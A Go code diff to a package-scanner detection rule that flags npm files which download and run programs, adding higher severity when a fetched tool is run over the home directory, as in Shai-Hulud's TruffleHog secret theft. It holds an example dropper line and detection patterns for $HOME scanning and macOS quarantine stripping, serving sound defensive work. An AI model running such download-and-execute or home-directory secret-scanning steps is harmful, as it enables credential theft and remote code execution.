@@ -6,6 +6,7 @@ import (
 	"fmt"
 	"path"
 	"regexp"
+	"slices"
 	"strings"
 
 	"github.com/depfence/depfence/internal/analyze"
@@ -20,7 +21,7 @@ type DownloadExecute struct{}
 // Meta implements analyze.Rule.
 func (DownloadExecute) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "exec/download-execute", Version: 6, Title: "Downloads a program and runs it",
+		ID: "exec/download-execute", Version: 7, Title: "Downloads a program and runs it",
 		Help: "One file both downloads (HTTP request written to disk) and executes (spawn/exec/execFile, chmod +x, or process.dlopen of a native module). Binary installers such as " +
 			"esbuild or sharp do this from the npm registry or GitHub releases and are reported at low severity; an executable fetched from a raw IP, " +
 			"an unknown host or into a temp directory is a dropper: high severity when it comes from an unknown host, lands in a temp directory " +
@@ -28,7 +29,9 @@ func (DownloadExecute) Meta() analyze.Meta {
 			"In a bundle (over 512 KiB) the download, the write and the spawn need not be related: it is medium at most, and only URLs a " +
 			"request is given, or that name a program or an archive, count (not the documentation links of its error messages). " +
 			"A download from an unknown host whose macOS quarantine flag is stripped (xattr -d com.apple.quarantine, xattr -c), " +
-			"so that Gatekeeper never checks it, is high; critical at install time.",
+			"so that Gatekeeper never checks it, is high; critical at install time. So is a program from an unknown host run over the " +
+			"home directory (a secret scanner: Shai-Hulud fetched TruffleHog and pointed it at $HOME). A request's URL with run-time parts " +
+			"counts by its constant parts: …/v2/${target}.node names a native module.",
 		Remediation:     "Check the download URL. Prefer packages that ship platform binaries as optional dependencies.",
 		Example:         `download("http://203.0.113.9/app.exe", tmp); execFileSync(tmp)`,
 		DefaultSeverity: finding.SeverityMedium, Signal: analyze.SigRemoteExec, Needs: analyze.NeedCode,
@@ -40,7 +43,7 @@ var execExt = map[string]bool{".exe": true, ".node": true, ".so": true, ".dylib"
 // Check implements analyze.Rule.
 func (DownloadExecute) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
 	for _, f := range rulekit.Code(ctx, t) {
-		download, write, run, hidden := false, false, false, false
+		download, write, run, hidden, home := false, false, false, false, false
 		runLine, runSnip, quarantine := 0, "", ""
 		for _, c := range f.Facts.Calls {
 			if rulekit.IsNetCall(c) {
@@ -62,6 +65,7 @@ func (DownloadExecute) Check(ctx context.Context, t *analyze.Target, r analyze.R
 					runLine, runSnip = c.Pos.Line, c.Snippet.String()
 				}
 				hidden = hidden || rulekit.Hidden(c)
+				home = home || givenHome(c)
 			}
 		}
 		if !(download && write && run) {
@@ -97,11 +101,21 @@ func (DownloadExecute) Check(ctx context.Context, t *analyze.Target, r analyze.R
 				}
 			}
 		}
+		// the constant strings, and the URLs requests are given with
+		// run-time parts (…/v2/${target}.node)
+		texts := make([]string, 0, len(f.Facts.Strings))
 		for _, s := range f.Facts.Strings {
-			if len(s.Value) > 2048 {
-				continue
+			if len(s.Value) <= 2048 {
+				texts = append(texts, s.Value)
 			}
-			for _, u := range rulekit.URLs(s.Value) {
+		}
+		for _, c := range f.Facts.Calls {
+			if rulekit.IsNetCall(c) && len(c.Args) > 0 && !c.Args[0].Known && c.Args[0].Shape != "" {
+				texts = append(texts, c.Args[0].Shape)
+			}
+		}
+		for _, text := range texts {
+			for _, u := range rulekit.URLs(text) {
 				h := rulekit.Host(u)
 				if rulekit.LocalHost(h) {
 					continue // a request to this machine downloads nothing
@@ -135,6 +149,16 @@ func (DownloadExecute) Check(ctx context.Context, t *analyze.Target, r analyze.R
 				sev = finding.SeverityHigh
 			}
 		}
+		if home && sev == finding.SeverityMedium {
+			// a secret scanner fetched and pointed at the home directory
+			// (Shai-Hulud's TruffleHog); installers run what they fetch
+			// with --version at most
+			why += ", runs it over the home directory"
+			sev = finding.SeverityHigh
+			if f.Role == analyze.RoleInstall {
+				sev = finding.SeverityCritical
+			}
+		}
 		if quarantine != "" && sev == finding.SeverityMedium {
 			// Gatekeeper would have asked the user about an unsigned download
 			why += ", strips its macOS quarantine (" + quarantine + ")"
@@ -153,6 +177,18 @@ func (DownloadExecute) Check(ctx context.Context, t *analyze.Target, r analyze.R
 		r.Report(analyze.Instance{File: f.Name, Line: runLine, Severity: sev, Message: fmt.Sprintf("downloads a file and executes it (%s)", why), Evidence: rulekit.Ev(runSnip, "", "")})
 	}
 	return nil
+}
+
+// givenHome reports a process started with the home directory among its
+// arguments (os.homedir(), $HOME, ~).
+func givenHome(c jsast.Call) bool {
+	for _, a := range c.Args[min(1, len(c.Args)):] {
+		if slices.Contains(a.Names, "homedir") || slices.Contains(a.List, "~") || slices.Contains(a.List, "$HOME") {
+			return true
+		}
+	}
+	cmd := rulekit.SpawnCommand(c)
+	return strings.Contains(cmd, " ~ ") || strings.HasSuffix(cmd, " ~") || strings.Contains(cmd, "$HOME ") || strings.HasSuffix(cmd, "$HOME")
 }
 
 // quarantineRe matches a command that removes macOS's quarantine flag
